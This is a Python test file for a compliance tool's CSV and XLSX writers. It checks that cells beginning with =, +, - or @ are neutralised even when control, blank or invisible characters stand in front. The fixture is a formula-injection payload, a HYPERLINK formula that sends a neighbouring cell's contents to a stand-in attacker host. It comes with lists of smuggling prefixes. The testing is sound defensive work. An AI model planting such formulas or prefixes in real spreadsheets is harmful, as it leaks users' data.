"""No cell of a written list is ever a formula, whatever stands before the `=`.

`\\x01=HYPERLINK(...)` was written as a live formula: the control character, which XML cannot
hold, was removed after the cell had been checked for a formula start. Every prefix of control,
blank and invisible characters before each formula start goes through the CSV and XLSX writers,
in a header and in a data cell, and is read back.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from compliance.batch.outcome import ERROR, RowResult
from compliance.batch.readers import SourceRow
from compliance.batch.summary import Summary
from compliance.batch.writers import Outputs, RunInfo
from compliance.batch.writers.common import _DROPPABLE_LEAD, FORMULA_STARTS, neutralise

LEADS = [chr(code) for code in (*range(0x00, 0x21), 0x7F, 0x85, 0xA0, 0x200B, 0x2028, 0x3000,
                                0xFEFF)]
STARTS = ("=", "+", "-", "@")
INFO = RunInfo("list.csv", "python", "test", "2024-01-01")
FORMULA = 'HYPERLINK("http://evil.example/?"&A2,"点我")'


def _is_formula_start(text: str) -> bool:
    return text.lstrip("".join(LEADS)).startswith(STARTS) or text.startswith(("\t", "\r"))


@given(lead=st.lists(st.sampled_from(LEADS), max_size=3).map("".join),
       start=st.sampled_from(STARTS))
def test_neutralise_sees_through_whatever_stands_before_the_formula(lead: str, start: str
                                                                    ) -> None:
    assert neutralise(lead + start + FORMULA).startswith("'")


def test_the_quick_look_at_the_first_character_misses_nothing() -> None:
    """Every character of the basic plane, alone, before a formula and before plain text,
    is neutralised exactly as the full test (strip what may be dropped, look for a start)
    would: the first-character shortcut only skips texts that test would leave alone."""
    def full_test(text: str) -> str:
        if text.startswith(FORMULA_STARTS) or text.lstrip(_DROPPABLE_LEAD).startswith(STARTS):
            return "'" + text
        return text

    for code in range(0x10000):
        if 0xD800 <= code <= 0xDFFF:
            continue
        for text in (chr(code), chr(code) + "=1+1", chr(code) + "项目", chr(code) * 2 + "@x"):
            assert neutralise(text) == full_test(text), hex(code)
    assert neutralise("") == ""


def test_every_single_lead_before_every_start_is_written_as_text(tmp_path: Path) -> None:
    evil = [lead + start + FORMULA for lead in LEADS for start in STARTS]
    _check_written(tmp_path, evil)


@pytest.mark.slow
@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.builds(lambda lead, start, tail: lead + start + tail,
                                st.lists(st.sampled_from(LEADS), max_size=4).map("".join),
                                st.sampled_from(STARTS), st.text(max_size=8)),
                      min_size=1, max_size=6))
def test_random_prefixes_are_written_as_text(tmp_path_factory, texts: list[str]) -> None:
    _check_written(tmp_path_factory.mktemp("fuzz"), texts)


def _check_written(folder: Path, evil: list[str]) -> None:
    header = [*evil, "项目名称"]
    targets = [folder / "r.xlsx", folder / "r.csv"]
    with Outputs(targets, header, INFO) as outputs:
        outputs.write(SourceRow(2, [*evil, "名称"]), RowResult(2, ERROR, error=evil[0]))
        outputs.commit(Summary())
    book = load_workbook(folder / "r.xlsx")
    sheet = book.worksheets[0]
    for row in sheet.iter_rows(max_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert not (isinstance(cell.value, str) and _is_formula_start(cell.value)), cell.value
    with (folder / "r.csv").open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            assert not any(_is_formula_start(value) for value in row), row
